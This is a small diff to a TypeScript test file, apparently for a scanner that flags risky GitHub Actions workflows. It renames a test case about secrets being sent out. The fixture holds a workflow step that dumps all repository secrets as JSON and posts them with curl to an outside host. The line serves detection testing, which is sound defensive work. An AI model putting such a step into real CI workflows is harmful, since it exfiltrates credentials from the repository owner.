@@ -108,7 +108,7 @@ export const operationCases: Record<string, Cases> = {
         return ['risk-workflow-untrusted-checkout', WORKFLOW, `${head}${text}`] as const;
       }),
       [
-        'risk-workflow-secrets-sent',
+        'risk-workflow-all-secrets-sent',
         WORKFLOW,
         `      - env:\n          S: \${{ toJSON( secrets ) }}\n        run: curl -d "$S" https://acme.io`,
       ],
